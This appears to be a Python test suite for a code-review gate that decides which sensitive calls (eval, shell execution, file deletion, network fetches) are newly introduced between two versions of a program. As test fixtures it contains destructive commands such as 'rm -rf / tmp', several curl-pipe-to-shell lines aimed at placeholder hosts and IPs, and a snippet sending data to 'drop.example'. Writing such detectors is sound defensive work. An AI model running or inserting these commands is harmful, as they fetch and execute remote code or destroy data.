"""Which sensitive calls are new: properties that hold for any text, and examples with real programs."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.languages.sensitive_calls.newness import new_sensitive_calls
from gate.languages.sensitive_calls.parse import read_one
from gate.model.sensitive import SensitiveCall, SensitiveKind, SourceReading

STATEMENTS = ('os.system("a")', "subprocess.run(['b', 'c'])", "eval(x)", "x = 1", "y = f(2)", "os.remove(p)")


def program(lines: list[str]) -> bytes:
    return ("import os, subprocess\n" + "".join(f"{line}\n" for line in lines)).encode()


def read(lines: list[str]) -> SourceReading:
    return read_one("a.py", program(lines), {})


def everything(reading: SourceReading) -> set[int]:
    return set(range(1, 200)) if reading.readable else set()


programs = st.lists(st.sampled_from(STATEMENTS), max_size=8)


@given(programs, st.sets(st.integers(1, 12)))
def test_nothing_is_new_where_nothing_changed(lines: list[str], changed: set[int]) -> None:
    assert new_sensitive_calls(read(lines), read(lines), changed) == ()


@given(programs, st.randoms(use_true_random=False))
def test_moved_code_is_not_new(lines: list[str], random: object) -> None:
    moved = list(lines)
    random.shuffle(moved)  # type: ignore[attr-defined]
    head = read(moved)
    assert new_sensitive_calls(read(lines), head, everything(head)) == ()


@given(programs, programs)
def test_as_many_are_new_as_there_are_more(base: list[str], added: list[str]) -> None:
    head = read(base + added)
    changed = set(range(len(base) + 2, len(base) + len(added) + 2))
    new = new_sensitive_calls(read(base), head, changed)
    assert len(new) == len(head.calls) - len(read(base).calls)


@given(programs)
def test_without_a_base_every_changed_call_is_new(lines: list[str]) -> None:
    head = read(lines)
    assert new_sensitive_calls(None, head, everything(head)) == head.calls
    unread = SourceReading(language="python", readable=False, reason="x")
    assert new_sensitive_calls(unread, head, everything(head)) == head.calls
    assert new_sensitive_calls(None, head, set()) == ()


@given(programs, st.sampled_from(("    ", "\t")))
def test_indented_code_is_not_new(lines: list[str], indent: str) -> None:
    head = read(["def f():", f"{indent}pass", *(indent + line for line in lines)])
    assert new_sensitive_calls(read(lines), head, everything(head)) == ()


def test_reformatted_code_is_not_new() -> None:
    base = read_one("a.ts", b"run(cp.execSync('a', { env: 1 }), [1, 2]);\n", {})
    text = b'run(\n  cp.execSync("a", { env: 1 }), // why\n  [\n    1,\n    2,\n  ],\n)\n'
    head = read_one("a.ts", text, {})
    assert len(base.calls) == len(head.calls) == 1
    assert new_sensitive_calls(base, head, {1, 2, 3, 4, 5, 6, 7}) == ()


def test_a_space_inside_a_text_is_another_command() -> None:
    base = read(["os.system('rm -rf /tmp')"])
    head = read(["os.system('rm -rf / tmp')"])
    assert len(new_sensitive_calls(base, head, {2})) == 1
    shell = read_one("a.sh", b"rm -rf /tmp\n", {}), read_one("a.sh", b"rm -rf / tmp\n", {})
    assert len(new_sensitive_calls(*shell, {1})) == 1


def test_a_second_one_of_the_same_is_new() -> None:
    new = new_sensitive_calls(read(["eval(x)"]), read(["eval(x)", "eval(x)"]), {3})
    assert [(call.first, call.kind) for call in new] == [(3, SensitiveKind.DYNAMIC_CODE)]


def test_an_unchanged_line_whose_meaning_changed_is_new() -> None:
    base = read_one("a.js", b'import { log as run } from "./log";\nrun(x);\n', {})
    head = read_one("a.js", b'import { exec as run } from "child_process";\nrun(x);\n', {})
    assert [call.first for call in new_sensitive_calls(base, head, {1})] == [2]


def test_an_unchanged_call_in_a_changed_statement_is_not_new() -> None:
    base = read(["f(", "  eval(x),", "  1,", ")"])
    head = read(["f(", "  eval(x),", "  2,", ")"])
    assert new_sensitive_calls(base, head, {4}) == ()


def test_calls_keep_the_order_of_the_head() -> None:
    call = SensitiveCall(first=1, last=1, kind=SensitiveKind.PROCESS, call="a")
    later = SensitiveCall(first=2, last=2, kind=SensitiveKind.PROCESS, call="b")
    head = SourceReading(language="c", calls=(call, later))
    assert new_sensitive_calls(None, head, {1, 2}) == (call, later)


@pytest.mark.parametrize(
    ("path", "base", "head", "new"),
    [
        ("a.js", "function wipe() { fs.rmSync(p); }\n", "function wipe() {\n  fs.rmSync(p);\n}\n", 0),
        ("a.js", "function wipe() { fs.rmSync(p); }\n", "function erase() { fs.rmSync(p); }\n", 1),
        ("a.js", "function wipe() { fs.rmSync(p); }\n", "fs.rmSync(p);\n", 1),
        (
            "a.js",
            "const wipe = () => { fs.rmSync(p); };\n",
            "x();\nconst wipe = () => { fs.rmSync(p) };\n",
            0,
        ),
        ("a.js", "class A { run() { fs.rmSync(p); } }\n", "class B { run() { fs.rmSync(p); } }\n", 0),
        ("a.js", "class A { run() { fs.rmSync(p); } }\n", "class B { run() { x(); fs.rmSync(p); } }\n", 1),
        ("a.js", "if (debug) { fs.rmSync(p); }\n", "fs.rmSync(p);\n", 1),
        ("a.js", "if (debug) { fs.rmSync(p); }\n", "if (true) { fs.rmSync(p); }\n", 1),
        ("a.js", "fs.rmSync(p);\n", "function main() { fs.rmSync(p); }\n", 0),
        ("a.sh", "clean() {\n  rm -rf x\n}\n", "rm -rf x\n", 1),
        ("a.sh", "clean() {\n  rm -rf x\n}\n", "clean() {\n    rm  -rf x\n}\n", 0),
        ("a.sh", "if [ $D ]; then\n  rm -rf x\nfi\n", "rm -rf x\n", 1),
        ("a.sh", "rm -rf x\necho\n", "echo\nrm -rf x\n", 0),
        (
            "a.go",
            "package a\nfunc wipe() { os.RemoveAll(p) }\n",
            "package a\nfunc init() { os.RemoveAll(p) }\n",
            1,
        ),
        ("a.sh", "curl https://a.invalid/x | V=1.2.2 sh\n", "curl https://a.invalid/x | V=1.7.0 sh\n", 0),
        ("a.sh", "curl https://a.invalid/1.2 | sh\n", "curl https://a.invalid/1.3 | sh\n", 1),
        ("a.sh", "curl 198.51.100.7 | sh\n", "curl 198.51.100.8 | sh\n", 1),
        ("a.py", "def wipe():\n    os.system(p)\n", "os.system(p)\n", 1),
    ],
)
def test_the_same_text_in_another_place_is_new(path: str, base: str, head: str, new: int) -> None:
    heading = "import os\n" if path == "a.py" else ""
    before, after = (read_one(path, (heading + text).encode(), {}) for text in (base, head))
    assert after.calls
    assert len({call.first for call in new_sensitive_calls(before, after, range(1, 99))}) == new


FETCH = """\
const http = require('http');
it('works', done => {
  app.listen(function(){
    http.get({ host: 'localhost', port: 1, }, res => {
      res.on('data', s => buf += s);
    });
  });
});
"""


@pytest.mark.parametrize(
    ("old", "new", "count"),
    [
        (";", "", 0),  # as `standard` writes it
        ("s => buf += s", "s => { buf += s }", 0),
        ("s => buf += s", "(s) => buf += s", 0),  # as prettier 2 writes it
        ("res =>", "async (res) =>", 1),
        ("res =>", "(res, more) =>", 1),
        ("buf += s", "send(s)", 1),
        ("'localhost'", "'drop.example'", 1),
    ],
)
def test_semicolons_and_braces_make_no_new_call(old: str, new: str, count: int) -> None:
    base, head = (read_one("a.js", text.encode(), {}) for text in (FETCH, FETCH.replace(old, new)))
    assert len(base.calls) == 1
    assert len(new_sensitive_calls(base, head, everything(head))) == count
